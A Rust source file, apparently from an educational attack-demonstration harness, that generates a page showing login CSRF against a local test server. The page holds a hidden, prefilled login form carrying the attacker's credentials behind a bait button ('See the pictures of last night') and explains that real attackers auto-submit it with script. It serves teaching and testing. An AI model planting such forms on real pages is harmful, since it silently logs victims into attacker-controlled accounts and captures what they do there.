//! `login-csrf-at-server`: the server's login form, on a foreign page.

use crate::attack::Attack;
use crate::scene::Scene;
use crate::stage::page::{Page, escape};
use crate::stage::state::Stage;
use kit::Verdict;

/// A form that is filled in already.
pub fn page(stage: &Stage, attack: &'static Attack) -> Result<String, Verdict> {
    let version = stage.target.version;
    let attacker = Scene::new(stage.target.clone()).attacker()?.user;
    let client = stage.target.client.clone().unwrap_or_default();
    Ok(Page::new(attack, version)
        .heading("What you do")
        .list(&["Log out first, if you are logged in: delete the cookies of localhost, or use a private window. Then press the button.".to_owned()])
        .html(format!(
            "<form method=\"post\" action=\"{}\"><input type=\"hidden\" name=\"username\" value=\"{}\"><input type=\"hidden\" name=\"password\" value=\"{}\">\
             <button id=\"bait\">See the pictures of last night</button></form>",
            escape(&stage.target.url("/login")),
            escape(&attacker.username),
            escape(&attacker.password)
        ))
        .text("A real attacker would not wait for the button: a line of script sends the form as soon as the page is open.")
        .heading("What to look at")
        .list(&[
            format!("The server greets you as `{}`. You typed nothing.", attacker.username),
            format!("Now go to the client, `{client}/`, and start authorization. Nobody asks who you are: you work in the attacker's account."),
        ])
        .end(attack, version))
}
